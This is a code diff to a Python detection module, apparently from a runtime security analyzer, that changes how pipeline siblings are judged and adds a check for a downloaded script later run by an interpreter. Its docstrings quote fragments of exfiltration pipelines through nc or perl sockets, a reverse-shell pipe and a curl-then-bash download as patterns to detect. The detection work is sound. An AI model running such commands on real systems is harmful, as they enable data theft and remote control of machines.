@@ -128,7 +128,9 @@ def pipe_sink(x: str, t: int, ids: list[str], info: dict[str, Any], window_ns: i
     earlier members produced (``pg_dump … | gzip | perl -MIO::Socket …``, ``tar c … | nc …``):
     siblings of ``x`` (same parent, started within ``window_ns`` of it) forked before it (lower
     pid; the start time when no pid is known) and still running when it started (a pipeline's
-    members run together; ``curl … && chmod … && ./x`` is a sequence), and none of them
+    members run together; ``curl … && chmod … && ./x`` is a sequence; no exit seen is still
+    running, but not on a node whose processes' exits the capture has none of — ``node_exits``
+    false: Inspektor Gadget writes none — where which ran together is unknown), and none of them
 
     * an interpreter given no script (``cat f | sh -i | nc …``: a shell's own output piped out is
       a reverse shell, a channel driven from there, not data),
@@ -146,7 +148,8 @@ def pipe_sink(x: str, t: int, ids: list[str], info: dict[str, Any], window_ns: i
     up = [y for y in ids if y != x and info.get(y, {}).get("parent_exec_id") == parent
           and abs((info.get(y, {}).get("start_ns") or 0) - start) <= window_ns
           and (_order(info[y]) < _order(r) if by_pid else (info[y].get("start_ns") or 0) < start)
-          and (info[y].get("exit_ns") is None or info[y]["exit_ns"] > start)]
+          and (info[y]["exit_ns"] > start if info[y].get("exit_ns") is not None
+               else info[y].get("node_exits") is not False)]
     if not up:
         return False
     for y in up:
@@ -157,6 +160,29 @@ def pipe_sink(x: str, t: int, ids: list[str], info: dict[str, Any], window_ns: i
         if y in outward:
             return False
     return not any(info.get(z, {}).get("parent_exec_id") in up and (info[z].get("start_ns") or 0) > t for z in ids)
+
+
+def interpreted(tokens: set[str], later: list[dict[str, Any]]) -> bool:
+    """Whether a process of ``later`` (process rows) is an interpreter (:data:`INTERPRETER`) whose
+    script — its first argument that is no option — is a path among ``tokens`` (the arguments of
+    a process that connected out): ``curl -sL http://x/s.sh -o /tmp/s.sh`` then ``bash /tmp/s.sh``
+    ran what was fetched (a download), though no hook saw the file written.  A later process that
+    only names the path (``rm /tmp/s.sh``, ``cat``) is none.
+
+    >>> interpreted({"-o", "/tmp/s.sh", "http://x/s.sh"}, [{"binary": "/bin/bash", "args": "/tmp/s.sh"}])
+    True
+    >>> interpreted({"-T", "/tmp/a"}, [{"binary": "/bin/rm", "args": "-f /tmp/a"}, {"binary": "/bin/sh", "args": "-c id"}])
+    False
+    """
+    paths = {t.strip("'\"") for t in tokens if t.strip("'\"").startswith("/")}
+    if not paths:
+        return False
+    for r in later:
+        name = str(r.get("binary") or "").rsplit("/", 1)[-1]
+        script = next((a for a in str(r.get("args") or "").split() if not a.startswith("-")), None)
+        if INTERPRETER.match(name) and script is not None and script.strip("'\"") in paths:
+            return True
+    return False
 
 
 def _path(file_node: str) -> str:
@@ -244,5 +270,5 @@ def service_callbacks(parent: str | None, start_ns: int | None, edge: pl.DataFra
             for i, (d, t) in enumerate(rows)]
 
 
-__all__ = ["INTERPRETER", "beacon", "dns_answers", "exfil_senders", "fetch_pipe", "name_for", "names_path", "pipe_sink",
+__all__ = ["INTERPRETER", "beacon", "dns_answers", "exfil_senders", "fetch_pipe", "interpreted", "name_for", "names_path", "pipe_sink",
            "service_callbacks"]
